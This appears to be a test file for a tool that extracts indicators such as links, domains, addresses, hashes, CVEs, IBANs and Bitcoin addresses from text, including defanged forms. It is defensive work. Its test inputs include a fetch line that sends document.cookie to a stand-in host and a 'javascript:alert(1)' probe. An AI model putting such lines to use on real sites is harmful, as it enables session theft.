import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { defang } from './defang.ts';
import { observablesOf } from './extract.ts';
import { observableKinds } from './observable.ts';
import { refang } from './refang.ts';

const ownDomains = ['secura.com'];
const find = (text: string) => observablesOf(text, { ownDomains });
/** `kind:value`, with `!own` or `!private` behind what is not external. */
const told = (text: string) => find(text).map(({ kind, value, scope }) => `${kind}:${value}${scope === 'external' ? '' : `!${scope}`}`);

const md5 = '44d88612fea8a8f36de82e1278abb02f';
const sha1 = '3395856ce81f2b7382dee72602f798b642f14140';
const sha256 = '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f';

const cases: Record<string, [text: string, ...found: string[]][]> = {
  'a link, with the host that it leads to': [
    ['https://evil.com', 'url:https://evil.com/', 'domain:evil.com'],
    ['HTTP://EVIL.COM/Path', 'url:http://evil.com/Path', 'domain:evil.com'],
    ['http://evil.com:8080/a?b=c#d', 'url:http://evil.com:8080/a?b=c#d', 'domain:evil.com'],
    ['http://evil.com:80/', 'url:http://evil.com/', 'domain:evil.com'],
    ['https://evil.com:443/', 'url:https://evil.com/', 'domain:evil.com'],
    ['ftp://files.evil.com/x.exe', 'url:ftp://files.evil.com/x.exe', 'domain:files.evil.com'],
    ['ldap://evil.com:1389/a', 'url:ldap://evil.com:1389/a', 'domain:evil.com'],
    ['wss://evil.com/socket', 'url:wss://evil.com/socket', 'domain:evil.com'],
    ['http://evil.com./x', 'url:http://evil.com/x', 'domain:evil.com'],
    ['http://paypal.com@evil.com/x', 'url:http://paypal.com@evil.com/x', 'domain:evil.com'],
    ['http://user:pass@evil.com/', 'url:http://user:pass@evil.com/', 'domain:evil.com'],
    ['http:\\\\evil.com\\x', 'url:http://evil.com/x', 'domain:evil.com'],
    ['{"u":"http:\\/\\/evil.com\\/x"}', 'url:http://evil.com/x', 'domain:evil.com'],
    ['//cdn.evil.com/x.js', 'url:http://cdn.evil.com/x.js', 'domain:cdn.evil.com'],
    ['evil.com/login.php?x=1', 'url:http://evil.com/login.php?x=1', 'domain:evil.com'],
    ['evil.com:8443/login', 'url:http://evil.com:8443/login', 'domain:evil.com'],
    ['sites.google.com/view/payroll', 'url:http://sites.google.com/view/payroll', 'domain:sites.google.com'],
    ['http://foo.github.io/', 'url:http://foo.github.io/', 'domain:foo.github.io'],
    ['http://facebookcorewwwi.onion/', 'url:http://facebookcorewwwi.onion/', 'domain:facebookcorewwwi.onion'],
    ['http://münchen.de/ü', 'url:http://xn--mnchen-3ya.de/%C3%BC', 'domain:xn--mnchen-3ya.de'],
    ['http://пример.рф', 'url:http://xn--e1afmkfd.xn--p1ai/', 'domain:xn--e1afmkfd.xn--p1ai'],
    ['http://аpple.com/', 'url:http://xn--pple-43d.com/', 'domain:xn--pple-43d.com'],
    ['http://evil.com/x http://evil.com/x', 'url:http://evil.com/x', 'domain:evil.com', 'url:http://evil.com/x', 'domain:evil.com'],
    ['http://evil.com/redirect?to=http://worse.com/y', 'url:http://evil.com/redirect?to=http://worse.com/y', 'domain:evil.com'],
  ],
  'a link to an address, however it is spelled': [
    ['http://203.0.113.7/x', 'url:http://203.0.113.7/x', 'ip:203.0.113.7'],
    ['203.0.113.7/login', 'url:http://203.0.113.7/login', 'ip:203.0.113.7'],
    ['http://3405803783/', 'url:http://203.0.113.7/', 'ip:203.0.113.7'],
    ['http://0xcb007107/', 'url:http://203.0.113.7/', 'ip:203.0.113.7'],
    ['http://0313.0.0161.7/', 'url:http://203.0.113.7/', 'ip:203.0.113.7'],
    ['http://[2001:db8::1]:8080/x', 'url:http://[2001:db8::1]:8080/x', 'ip:2001:db8::1'],
    ['http://192.168.0.1/admin', 'url:http://192.168.0.1/admin!private', 'ip:192.168.0.1!private'],
  ],
  'no more of a link than belongs to it': [
    ['See http://evil.com/x.', 'url:http://evil.com/x', 'domain:evil.com'],
    ['(http://evil.com/x)', 'url:http://evil.com/x', 'domain:evil.com'],
    ['<http://evil.com/x>', 'url:http://evil.com/x', 'domain:evil.com'],
    ['"http://evil.com/x", he said', 'url:http://evil.com/x', 'domain:evil.com'],
    ["'http://evil.com/x'", 'url:http://evil.com/x', 'domain:evil.com'],
    ["fetch('http://evil.com/x?c='+document.cookie)", 'url:http://evil.com/x?c=', 'domain:evil.com'],
    ["http://evil.com/o'brien", "url:http://evil.com/o'brien", 'domain:evil.com'],
    ['“http://evil.com/x”', 'url:http://evil.com/x', 'domain:evil.com'],
    ['http://evil.com/x!?…', 'url:http://evil.com/x', 'domain:evil.com'],
    ['[here](http://evil.com/x)', 'url:http://evil.com/x', 'domain:evil.com'],
    ['[http://evil.com/x](http://worse.com/y)', 'url:http://evil.com/x', 'domain:evil.com', 'url:http://worse.com/y', 'domain:worse.com'],
    ['http://evil.com/a_(b)_c', 'url:http://evil.com/a_(b)_c', 'domain:evil.com'],
    ['http://evil.com/?a[]=1', 'url:http://evil.com/?a[]=1', 'domain:evil.com'],
    ['http://a.com/1,http://b.com/2;http://c.com/3', 'url:http://a.com/1', 'domain:a.com', 'url:http://b.com/2', 'domain:b.com', 'url:http://c.com/3', 'domain:c.com'],
    ['http://a.com/1|http://b.com/2', 'url:http://a.com/1', 'domain:a.com', 'url:http://b.com/2', 'domain:b.com'],
    ['&lt;http://evil.com/x&gt; here', 'url:http://evil.com/x', 'domain:evil.com'],
    ['**http://evil.com/x**', 'url:http://evil.com/x', 'domain:evil.com'],
    ['http://evil.com/x\nhttp', 'url:http://evil.com/x', 'domain:evil.com'],
    [`http://evil.com/${'a'.repeat(2100)}`, 'domain:evil.com'],
  ],
  'what is no link': [['http://'], ['http://localhost:3000/'], ['http://intranet/wiki'], ['http://evil.notatld/x'], ['http://co.uk/'], ['http://exa mple'], ['javascript:alert(1)'], ['http://-.com/'], ['http://..com/'], ['and/or']],
  'the link inside a rewritten one': [
    ['https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.com%2Flogin&data=05', 'url:https://evil.com/login', 'domain:evil.com'],
    ['https://urldefense.com/v3/__https://evil.com/path__;!!abc$', 'url:https://evil.com/path', 'domain:evil.com'],
    ['https://urldefense.proofpoint.com/v2/url?u=http-3A__evil.com_x&d=1', 'url:http://evil.com/x', 'domain:evil.com'],
    ['https://eur01.safelinks.protection.outlook.com/?url=nonsense', 'url:https://eur01.safelinks.protection.outlook.com/?url=nonsense', 'domain:eur01.safelinks.protection.outlook.com'],
  ],
  'what was defanged': [
    ['hxxp://evil[.]com/x', 'url:http://evil.com/x', 'domain:evil.com'],
    ['hXXps[:]//evil[.]com/x', 'url:https://evil.com/x', 'domain:evil.com'],
    ['hxxp[://]evil[.]com', 'url:http://evil.com/', 'domain:evil.com'],
    ['hxxps[:]//evil[.]com[/]a', 'url:https://evil.com/a', 'domain:evil.com'],
    ['http[s]://evil.com/', 'url:https://evil.com/', 'domain:evil.com'],
    ['h**p://evil.com/', 'url:http://evil.com/', 'domain:evil.com'],
    ['fxp://evil.com/', 'url:ftp://evil.com/', 'domain:evil.com'],
    ['evil[.]com', 'domain:evil.com'],
    ['evil(.)com', 'domain:evil.com'],
    ['evil{.}com', 'domain:evil.com'],
    ['evil[dot]com', 'domain:evil.com'],
    ['evil(DOT)com', 'domain:evil.com'],
    ['evil [dot] com', 'domain:evil.com'],
    ['evil[ . ]com', 'domain:evil.com'],
    ['evil\\.com', 'domain:evil.com'],
    ['login[.]evil[.]co[.]uk', 'domain:login.evil.co.uk'],
    ['203[.]0[.]113[.]7', 'ip:203.0.113.7'],
    ['203.0.113[.]7', 'ip:203.0.113.7'],
    ['2001[:]db8[:][:]7', 'ip:2001:db8::7'],
    ['bob[@]evil[.]com', 'email:bob@evil.com'],
    ['bob(at)evil(dot)com', 'email:bob@evil.com'],
    ['bob [at] evil.com', 'email:bob@evil.com'],
    ['I wrote [.] and (@) and {.} here'],
  ],
  'a domain': [
    ['evil.com', 'domain:evil.com'],
    ['It came from evil.com.', 'domain:evil.com'],
    ['@evil.com', 'domain:evil.com'],
    ['EVIL.COM', 'domain:evil.com'],
    ['www.evil.com', 'domain:www.evil.com'],
    ['_dmarc.evil.com', 'domain:_dmarc.evil.com'],
    ['xn--pple-43d.com', 'domain:xn--pple-43d.com'],
    ['bücher.example', 'domain:xn--bcher-kva.example'],
    ['evil.com, worse.net; worst.org', 'domain:evil.com', 'domain:worse.net', 'domain:worst.org'],
    ['user%40evil.com', 'domain:evil.com'],
    ['phish.evil.test', 'domain:phish.evil.test'],
    ['a.b.c.d.evil.co.jp', 'domain:a.b.c.d.evil.co.jp'],
    ['1.2.3.4.nip.io', 'domain:1.2.3.4.nip.io'],
  ],
  'what only looks like a domain': [
    ['invoice.pdf'], ['invoice.pdf.zip'], ['setup.exe'], ['photo.mov'], ['install.sh'], ['notes.md'], ['Budget.one'], ['script.py and main.rs'],
    ['We unpacked archive.zip: it was empty.'], ['What is setup.zip?'], ['I clicked.It asked for my password.'], ['at the office.In the morning'], ['e.g. this, i.e. that, 5 p.m.'],
    ['version 1.2.3'], ['node.js'], ['C:\\Users\\bob\\evil.com\\x'], ['/var/www/evil.com/index'], ['evil..com'], ['evil.nosuchtld'], ['co.uk'], ['.com'], ['user=a.fox@...'], ['a.b'], [`${'a'.repeat(64)}.com`], ['INC-2026-0047'],
  ],
  'a suffix of files, where a host is meant': [
    ['evil[.]zip', 'domain:evil.zip'],
    ['http://evil.zip/x', 'url:http://evil.zip/x', 'domain:evil.zip'],
    ['www.evil.mov', 'domain:www.evil.mov'],
    ['bob@evil.sh', 'email:bob@evil.sh'],
  ],
  'an address': [
    ['8.8.8.8', 'ip:8.8.8.8'],
    ['from 8.8.8.8.', 'ip:8.8.8.8'],
    ['8.8.8.8:53', 'ip:8.8.8.8'],
    ['src=8.8.8.8,dst=9.9.9.9', 'ip:8.8.8.8', 'ip:9.9.9.9'],
    ['8.8.8.0/24', 'ip:8.8.8.0/24'],
    ['from 8.8.8.0/24. Then', 'ip:8.8.8.0/24'],
    ['8.8.8.8/32', 'ip:8.8.8.8'],
    ['\\\\203.0.113.7\\share', 'ip:203.0.113.7'],
    ['2a00:1450:4001:81b::200e', 'ip:2a00:1450:4001:81b::200e'],
    ['2A00:1450:4001:081B:0000:0000:0000:200E', 'ip:2a00:1450:4001:81b::200e'],
    ['::ffff:8.8.8.8', 'ip:8.8.8.8'],
    ['[2a00::1]:443', 'ip:2a00::1'],
    ['10.0.0.5', 'ip:10.0.0.5!private'],
    ['127.0.0.1 and ::1', 'ip:127.0.0.1!private', 'ip:::1!private'],
    ['169.254.1.1', 'ip:169.254.1.1!private'],
    ['100.64.0.1', 'ip:100.64.0.1!private'],
    ['172.16.0.0/12', 'ip:172.16.0.0/12!private'],
    ['fe80::1%eth0', 'ip:fe80::1!private'],
    ['fd00::5', 'ip:fd00::5!private'],
    ['172.32.0.1', 'ip:172.32.0.1'],
  ],
  'what only looks like an address': [
    ['version 1.2.3.4'], ['v1.2.3.4'], ['Version: 10.0.19041.1'], ['firmware 1.2.3.4'], ['Firefox/1.2.3.4'], ['1.2.3.4.5'], ['1.2.3'], ['256.1.1.1'], ['01.02.03.04'], ['1.2.3.4-beta'], ['Chrome/120.0.6099.109'],
    ['12:34:56'], ['00:11:22:33:44:55'], ['00:11:22:33:44:55:66:77'], ['std::string'], ['::'], ['face::book'], ['10:30'],
  ],
  'an e-mail address': [
    ['bob@evil.com', 'email:bob@evil.com'],
    ['Bob.Smith+tag@Evil.COM', 'email:bob.smith+tag@evil.com'],
    ['<bob@evil.com>', 'email:bob@evil.com'],
    ["'bob@evil.com'", 'email:bob@evil.com'],
    ['mailto:bob@evil.com?subject=x', 'email:bob@evil.com'],
    ['user=bob@evil.com', 'email:bob@evil.com'],
    ['bob@mail.evil.co.uk.', 'email:bob@mail.evil.co.uk'],
    ['jörg@bücher.de', 'email:jörg@xn--bcher-kva.de'],
    ['helpdesk@secura.com', 'email:helpdesk@secura.com!own'],
    ['a@b.com;c@d.com', 'email:a@b.com', 'email:c@d.com'],
    ['bob@localhost'], ['bob@evil'], ['@'], ['a@'], ['me @ work'], ['b***7@evil.com', 'domain:evil.com'], [`${'a'.repeat(70)}@evil`], ['Message-ID: <20260101.abc@mail.evil.com>'], ['In-Reply-To: <x1@mail.evil.com>'],
  ],
  'a digest': [
    [md5, `hash:${md5}`],
    [sha1.toUpperCase(), `hash:${sha1}`],
    [`SHA256:${sha256}`, `hash:${sha256}`],
    [`(${md5})`, `hash:${md5}`],
    [`${md5}0`], [md5.slice(1)], ['0'.repeat(32)], ['12345678901234567890123456789012'], ['d41d8cd98f00b204e9800998ecf8427e'], [`x${md5}`],
  ],
  'a vulnerability': [
    ['CVE-2021-44228', 'cve:CVE-2021-44228'],
    ['cve-2014-0160', 'cve:CVE-2014-0160'],
    ['CVE 2021-44228', 'cve:CVE-2021-44228'],
    ['CVE–2021–44228', 'cve:CVE-2021-44228'],
    ['CVE-2021-1234567', 'cve:CVE-2021-1234567'],
    ['CVE-2021-123'], ['CVE-1998-0001'], ['CVE-3021-44228'], ['ACVE-2021-44228'],
  ],
  'a bank account': [
    ['DE89370400440532013000', 'iban:DE89370400440532013000'],
    ['DE89 3704 0044 0532 0130 00 please', 'iban:DE89370400440532013000'],
    ['gb29 nwbk 6016 1331 9268 19', 'iban:GB29NWBK60161331926819'],
    ['IBAN:NO93 8601 1117 947.', 'iban:NO9386011117947'],
    ['FR14-2004-1010-0505-0001-3M02-606', 'iban:FR1420041010050500013M02606'],
    ['DE88370400440532013000'], ['DE8937040044053201300'], ['DE893704004405320130001'], ['XX89370400440532013000'], ['DE12'],
  ],
  'a Bitcoin address': [
    ['1BoatSLRHtKNngkdXEeobR76b53LETtpyT', 'bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT'],
    ['bitcoin:3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy?amount=1', 'bitcoin:3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy'],
    ['bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq', 'bitcoin:bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'],
    ['BC1QAR0SRRR7XFKVY5L643LYDNW9RE59GTZZWF5MDQ', 'bitcoin:bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'],
    ['bc1p5cyxnuxmeuwuvkwfem96lqzszd02n6xdcjrs20cac6yqjjwudpxqkedrcr', 'bitcoin:bc1p5cyxnuxmeuwuvkwfem96lqzszd02n6xdcjrs20cac6yqjjwudpxqkedrcr'],
    ['1BoatSLRHtKNngkdXEeobR76b53LETtpyU'], ['bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdp'], ['bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdQ'],
  ],
  'what is our own or reaches nobody': [
    ['https://mail.secura.com/x', 'url:https://mail.secura.com/x!own', 'domain:mail.secura.com!own'],
    ['secura.com.evil.net', 'domain:secura.com.evil.net'],
    ['notsecura.com', 'domain:notsecura.com'],
    ['dc01.corp.local', 'domain:dc01.corp.local!private'],
    ['http://files.intranet/x', 'url:http://files.intranet/x!private', 'domain:files.intranet!private'],
    ['router.home.arpa', 'domain:router.home.arpa!private'],
  ],
};

describe.each(Object.entries(cases))('finds %s', (_subject, rows) => {
  it.each(rows)('%s', (text, ...found) => expect(told(text)).toEqual(found));
});

it('has a table worth the name', () => {
  const rows = Object.values(cases).flat();
  expect(rows.length).toBeGreaterThanOrEqual(120);
  for (const kind of observableKinds) expect(rows.some(([, ...found]) => found.some((one) => one.startsWith(`${kind}:`)))).toBe(true);
});

describe('every observable', () => {
  const pieces = fc.constantFrom(
    'http://', 'hxxps[:]//', 'evil', '.com', '[.]', '(dot)', '@', '[at]', '/', '?', '203.0.113.7', '10.0.0.1', '2001:db8::1', md5, 'DE89 3704 0044 0532 0130 00', 'CVE-2021-44228',
    '1BoatSLRHtKNngkdXEeobR76b53LETtpyT', ' ', '\n', '(', ')', '[', ']', '.', ',', 'ü', '\u{1F600}', '\\', 'secura.com', '&gt;', 'é.example', '%40', '-', '_', ':', 'h', 'www.',
  );
  const texts = fc.oneof(fc.array(pieces, { maxLength: 40 }).map((all) => all.join('')), fc.string({ unit: 'binary', maxLength: 200 }));

  it('points at the text that it was read from, in order, and twice finds the same', () => {
    fc.assert(
      fc.property(texts, (text) => {
        const found = find(text);
        for (const { raw, start, end } of found) {
          expect(end).toBeGreaterThan(start);
          expect(text.slice(start, end)).toBe(raw);
        }
        expect(found.map(({ start }) => start)).toEqual(found.map(({ start }) => start).sort((a, b) => a - b));
        expect(find(text)).toEqual(found);
      }),
      { numRuns: 3000 },
    );
  });

  it('is found again in what it was written as, and in its defanged form', () => {
    const samples = Object.values(cases).flat().flatMap(([text]) => find(text));
    for (const observable of samples) {
      const { kind, value } = observable;
      const again = find(`Look at ${defang(observable)} please`);
      expect(again.some((other) => other.kind === kind && other.value === value), `${kind} ${value} as ${defang(observable)}`).toBe(true);
    }
  });

  it('is as it is in the text without defanging, whose places lead back', () => {
    fc.assert(
      fc.property(texts, (text) => {
        const plain = refang(text);
        const [start, end] = plain.span(0, plain.text.length);
        expect(text.slice(start, end)).toBe(text);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('a text made to be slow is read in a moment', () => {
  it('a megabyte of beginnings of links', () => {
    const started = performance.now();
    find('hxxp[.]'.repeat(150_000));
    expect(performance.now() - started).toBeLessThan(3000);
  });
  it.each([
    'http://', 'http://a.co/', 'http://http://', 'a.co?', 'a.co/', 'a@', '@', "a'@", 'a', '1.', '1.1.1.1.', 'f:', ':', 'a.', '.', '[.]', ' [dot] ', '[', '(', 'DE12', 'DE89 3704 ', 'CVE-2021-', 'bc1q',
    `${'1'.repeat(30)} `, `${'f'.repeat(31)}.`, '\\.', 'é.', '1.2.3.4/a', '%40', 'https://eur01.safelinks.protection.outlook.com/?url=', 'x@y.co ', 'a.co ',
  ])('%s', (piece) => {
    const text = piece.repeat(Math.ceil(300_000 / piece.length));
    const started = performance.now();
    find(text);
    // The slowest takes half a second on a busy machine; what were not linear would take a minute.
    expect(performance.now() - started).toBeLessThan(4000);
  });
  it.each(['http://e.com/(', 'http://e.com/.', 'http://', 'a@b.', '', 'e.com/'])('one run behind “%s”', (head) => {
    for (const sign of ['a', '(', '.', '-', '[']) {
      const started = performance.now();
      find(head + sign.repeat(1_000_000));
      expect(performance.now() - started).toBeLessThan(3000);
    }
  });
});
